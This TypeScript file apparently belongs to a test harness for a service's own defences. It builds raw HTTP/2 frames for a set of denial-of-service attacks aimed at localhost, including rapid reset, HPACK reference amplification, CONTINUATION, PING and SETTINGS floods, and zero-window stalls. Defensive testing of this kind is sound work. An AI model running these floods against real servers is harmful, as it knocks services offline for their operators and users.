import { setTimeout as wait } from "node:timers/promises";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  http2Opening,
  NO_WINDOW,
  PREFACE,
} from "../test/service/transport/port/http2-frames.ts";
import {
  type Attack,
  type AttackConnection,
  type AttackTarget,
  CALL_PATH,
  CHART_PATH,
  DOCUMENT_PATH,
  HEALTH_PATH,
  PAGE_PATH,
  repeated,
} from "./attack.ts";

const STREAMS = 120;
const BODIES = 30;
const CANCEL = 8;
const WINDOW_MAX = 0x7fffffff;
/** SETTINGS_INITIAL_WINDOW_SIZE and a window of the connection for all responses. */
const WIDE_WINDOWS = Buffer.concat([
  PREFACE,
  frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])),
  windowUpdate(0, 0x7fff0000),
]);
const NO_WINDOWS = Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, NO_WINDOW)]);
/** A reference to the newest entry of the dynamic table. */
const NEWEST_FIELD = 0xbe;
const REFERENCES = 8_000;
const LONG_VALUE = "c".repeat(3_900);
const GRPC_FIELDS = { "content-type": "application/grpc", te: "trailers" };

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function windowUpdate(stream: number, increment: number): Buffer {
  return frame(FRAME.windowUpdate, 0, stream, uint32(increment));
}

/** The length of a string as HPACK codes it (RFC 7541, section 5.1). */
function lengthBytes(length: number): Buffer {
  if (length < 127) return Buffer.of(length);
  const bytes = [127];
  let rest = length - 127;
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
}

/** A field of any length; an indexed one becomes an entry of the dynamic table. */
function longField(name: string, value: string, isIndexed = false): Buffer {
  return Buffer.concat([
    Buffer.of(isIndexed ? 0x40 : 0),
    ...[name, value].flatMap((text) => [lengthBytes(text.length), Buffer.from(text, "latin1")]),
  ]);
}

type Fields = Readonly<Record<string, string>>;

function blockOf({ port, isTls }: AttackTarget, method: string, path: string, fields: Fields = {}): Buffer {
  return headerBlock({
    ":method": method,
    ":scheme": isTls ? "https" : "http",
    ":path": path,
    ":authority": `127.0.0.1:${port}`,
    ...fields,
  });
}

const callBlock = (target: AttackTarget): Buffer =>
  blockOf(target, "GET", CALL_PATH, { authorization: `Bearer ${target.apiKey}` });
const postBlock = (target: AttackTarget): Buffer =>
  blockOf(target, "POST", CHART_PATH, {
    authorization: `Bearer ${target.apiKey}`,
    "content-type": "application/json",
  });
const head = (stream: number, block: Buffer, flags = END_HEADERS): Buffer =>
  frame(FRAME.headers, flags, stream, block);
const request = (stream: number, block: Buffer): Buffer => head(stream, block, END_HEADERS | END_STREAM);

/** The frames of the streams `first` to `first + count - 1` of a client. */
function streams(first: number, count: number, framesOf: (stream: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => framesOf(2 * (first + index) + 1)));
}

/** Sends further streams until the connection is closed. */
async function sendStreams(
  connection: AttackConnection,
  { first = 0, count, pauseMs = 0 }: { first?: number; count: number; pauseMs?: number },
  framesOf: (stream: number) => Buffer,
): Promise<void> {
  for (let next = first; await connection.send(streams(next, count, framesOf)); next += count)
    if (pauseMs > 0) await wait(pauseMs);
}

const opened = (opening: Buffer, path: string): Attack["run"] => {
  return async (connection, target) => {
    const block = blockOf(target, "GET", path);
    await connection.send(Buffer.concat([opening, streams(0, STREAMS, (stream) => request(stream, block))]));
  };
};

const called = (blockFor: (target: AttackTarget) => Buffer, pauseMs: number): Attack["run"] => {
  return async (connection, target) => {
    const block = blockFor(target);
    await connection.send(WIDE_WINDOWS);
    await sendStreams(connection, { count: 30, pauseMs }, (stream) => request(stream, block));
  };
};

/** A flood of equal frames, after an open request unless it needs none. */
const flood = (
  bytes: Buffer,
  count: number,
  first: (target: AttackTarget) => Buffer = () => Buffer.alloc(0),
): Attack["run"] => {
  const part = repeated(bytes, count);
  return async (connection, target) => {
    await connection.send(http2Opening(first(target)));
    await connection.sendRepeatedly(part);
  };
};

const openPost = (target: AttackTarget): Buffer => head(1, postBlock(target));
const unendedHead = (target: AttackTarget): Buffer => head(1, callBlock(target), 0);

/** Sends DATA frames to open requests, in rounds. */
const bodies = (
  bytes: Buffer,
  { count, rounds, pauseMs }: { count: number; rounds: number; pauseMs: number },
): Attack["run"] => {
  return async (connection, target) => {
    const block = postBlock(target);
    const part = streams(0, BODIES, (stream) => repeated(frame(FRAME.data, 0, stream, bytes), count));
    await connection.send(http2Opening(streams(0, BODIES, (stream) => head(stream, block))));
    for (let round = 0; round < rounds && (await connection.send(part)); round++) await wait(pauseMs);
  };
};

/** Each over HTTP/2. */
export const HTTP2_ATTACKS = {
  "h2-bodies": {
    title: "30 open bodies a connection, with a key",
    isOnce: true,
    run: bodies(Buffer.alloc(1_024, 32), { count: 1, rounds: 60, pauseMs: 20 }),
  },
  "h2-byte-data": {
    title: "DATA frames of one byte to 30 requests, with a key",
    run: bodies(Buffer.alloc(1, 32), { count: 64, rounds: 900, pauseMs: 3 }),
  },
  "h2-window-0-pages": { title: "windows of 0, pages", run: opened(NO_WINDOWS, PAGE_PATH) },
  "h2-window-0-documents": {
    title: "windows of 0, static documents",
    run: opened(NO_WINDOWS, DOCUMENT_PATH),
  },
  "h2-unread-pages": {
    title: "pages over HTTP/2, unread",
    isUnread: true,
    run: opened(WIDE_WINDOWS, PAGE_PATH),
  },
  "h2-calls": { title: "calls without waiting for their answers, with a key", run: called(callBlock, 20) },
  "h2-health": {
    title: "health checks without waiting",
    run: called((target) => blockOf(target, "GET", HEALTH_PATH), 5),
  },
  "h2-rapid-reset": {
    title: "requests that are reset immediately (rapid reset)",
    run: async (connection, target) => {
      const block = callBlock(target);
      await connection.send(http2Opening());
      await sendStreams(connection, { count: 50 }, (stream) =>
        Buffer.concat([request(stream, block), frame(FRAME.reset, 0, stream, uint32(CANCEL))]),
      );
    },
  },
  "h2-made-you-reset": {
    title: "requests that the service has to reset (made you reset)",
    run: async (connection, target) => {
      const block = callBlock(target);
      await connection.send(http2Opening());
      await sendStreams(connection, { count: 50 }, (stream) =>
        Buffer.concat([request(stream, block), windowUpdate(stream, WINDOW_MAX)]),
      );
    },
  },
  "h2-hpack": {
    title: "heads of 8,000 HPACK references",
    run: async (connection, target) => {
      const first = Buffer.concat([blockOf(target, "GET", HEALTH_PATH), longField("x-b", LONG_VALUE, true)]);
      const block = Buffer.concat([callBlock(target), Buffer.alloc(REFERENCES, NEWEST_FIELD)]);
      await connection.send(http2Opening(request(1, first)));
      await sendStreams(connection, { first: 1, count: 10 }, (stream) => request(stream, block));
    },
  },
  "h2-hpack-open": {
    title: "open requests with three HPACK references of 3.9 kB each",
    isOnce: true,
    run: async (connection, target) => {
      const first = Buffer.concat([postBlock(target), longField("x-b", LONG_VALUE, true)]);
      const block = Buffer.concat([postBlock(target), Buffer.alloc(3, NEWEST_FIELD)]);
      await connection.send(
        http2Opening(
          head(1, first),
          streams(1, 31, (stream) => head(stream, block)),
        ),
      );
    },
  },
  "h2-continuation": {
    title: "CONTINUATION frames of 900 bytes",
    run: flood(frame(FRAME.continuation, 0, 1, longField("x-a", "b".repeat(900))), 20, unendedHead),
  },
  "h2-empty-continuation": {
    title: "CONTINUATION frames without a field",
    run: flood(frame(FRAME.continuation, 0, 1), 500, unendedHead),
  },
  "h2-ping": { title: "PING frames", run: flood(frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 500) },
  "h2-ping-unread": {
    title: "PING frames, the answers unread",
    isUnread: true,
    run: flood(frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 500),
  },
  "h2-settings": {
    title: "SETTINGS frames",
    run: flood(frame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])), 300),
  },
  "h2-empty-data": {
    title: "DATA frames without data",
    run: flood(frame(FRAME.data, 0, 1), 1_000, openPost),
  },
  "h2-priority": {
    title: "PRIORITY frames",
    run: async (connection) => {
      await connection.send(http2Opening());
      const priority = Buffer.from([0, 0, 0, 0, 16]);
      await sendStreams(connection, { count: 300 }, (stream) => frame(FRAME.priority, 0, stream, priority));
    },
  },
  "h2-window-updates": { title: "WINDOW_UPDATE frames", run: flood(windowUpdate(1, 1), 500, openPost) },
  "h2-watches": {
    title: "health watches, 120 a connection",
    isOnce: true,
    run: async (connection, target) => {
      const block = blockOf(target, "POST", "/grpc.health.v1.Health/Watch", GRPC_FIELDS);
      const watch = (stream: number): Buffer =>
        Buffer.concat([head(stream, block), frame(FRAME.data, END_STREAM, stream, Buffer.alloc(5))]);
      await connection.send(http2Opening(streams(0, STREAMS, watch)));
    },
  },
} satisfies Readonly<Record<string, Attack>>;
